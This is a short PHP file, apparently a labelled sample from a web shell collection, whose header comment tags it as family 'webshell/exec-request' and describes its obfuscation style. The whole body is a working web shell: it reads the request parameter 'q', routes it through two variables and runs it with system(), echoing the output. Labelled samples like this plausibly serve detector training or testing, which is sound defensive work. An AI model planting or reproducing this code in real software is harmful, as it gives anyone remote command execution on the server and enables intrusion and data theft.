<?php
/* Family: webshell/exec-request
 * Style: command kept in a variable, parenthesised, run later
 * Trait: request value assigned through parentheses and a second variable before it reaches system()
 */
if (isset($_REQUEST['q'])) {
	echo "<pre>";
	$line = ($_REQUEST['q']);
	$todo = $line . ' 2>&1';
	system($todo);
	echo "</pre>";
}
